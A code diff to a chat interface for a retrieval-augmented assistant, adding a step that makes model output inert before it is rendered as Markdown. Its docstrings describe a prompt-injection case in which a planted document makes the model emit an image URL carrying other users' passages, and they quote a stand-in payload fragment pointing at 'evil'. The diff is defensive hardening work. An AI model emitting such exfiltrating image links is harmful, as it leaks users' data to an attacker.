@@ -3,9 +3,8 @@
 from __future__ import annotations
 
 import itertools
-
 import logging
-from collections.abc import Iterator
+from collections.abc import Collection, Iterator
 from typing import Any
 
 import streamlit as st
@@ -14,15 +13,18 @@ from rag.errors import RagError
 from rag.generation.chain import RAG
 from rag.llm.local.supervisor import notice_for
 from rag.security.auth import Identity
+from rag.security.markdown import inert_markdown, inert_stream
 from ui.evidence import answer_footer, render_sources
 from ui.state import Shared, Turn
 
 log = logging.getLogger("rag.ui")
 
 
-def md(text: str) -> str:
-    """Model output is rendered as Markdown, but a "$" would start LaTeX ("$200 ... $300" as a formula)."""
-    return text.replace("$", r"\$")
+def md(text: str, link_hosts: Collection[str] = ()) -> str:
+    """Model output is rendered as Markdown, made inert first: a planted document can make the model write an
+    image whose URL carries other users' passages, which the browser would fetch unasked (hardening issue, hole
+    6). That also escapes "$", which would start LaTeX ("$200 ... $300" as a formula)."""
+    return inert_markdown(text, link_hosts)
 
 
 def llm_notice(rag: RAG) -> str | None:
@@ -41,7 +43,7 @@ def page(rag: RAG, shared: Shared, identity: Identity, turns: list[Turn]) -> Non
         question = question.strip()
         turns.append(Turn("user", question))
         with st.chat_message("user"):
-            st.markdown(md(question))
+            st.markdown(md(question, rag.settings.ui_link_hosts))
         with st.chat_message("assistant"):
             turns.append(ask(rag, question, turns[:-1], identity))
 
@@ -63,7 +65,7 @@ def render_turn(rag: RAG, turn: Turn, i: int) -> None:
         if turn.error:
             st.error(turn.error, icon=":material/error:")
             return
-        st.markdown(md(turn.content))
+        st.markdown(md(turn.content, rag.settings.ui_link_hosts))
         if turn.answer is not None:
             answer_footer(turn.answer, turn.threshold)
             render_sources(rag, turn.answer, key=str(i))
@@ -78,13 +80,14 @@ def _history(turns: list[Turn]) -> list[tuple[str, str]]:
     return out
 
 
-def _streamed(pieces: Iterator[str], waiting: Any) -> Iterator[str]:
-    first = True
-    for piece in pieces:
-        if first:
+def _show_stream(pieces: Iterator[str], waiting: Any, link_hosts: Collection[str]) -> None:
+    """Render the answer as it grows: the whole text so far each time, made inert as a whole, since
+    "![x](http://evil/?d=..." arrives in pieces none of which is an image on its own."""
+    out = st.empty()
+    for i, shown in enumerate(inert_stream(pieces, link_hosts)):
+        if not i:
             waiting.empty()
-            first = False
-        yield md(piece)
+        out.markdown(shown)
 
 
 def ask(rag: RAG, question: str, turns: list[Turn], identity: Identity) -> Turn:
@@ -94,7 +97,7 @@ def ask(rag: RAG, question: str, turns: list[Turn], identity: Identity) -> Turn:
     waiting.caption("Searching the documents, then waiting for the model's first words…")
     try:
         stream = rag.stream(question, history, user=identity)
-        st.write_stream(_streamed(iter(stream), waiting))
+        _show_stream(iter(stream), waiting, rag.settings.ui_link_hosts)
         answer = stream.answer
         assert answer is not None
     except RagError as exc:
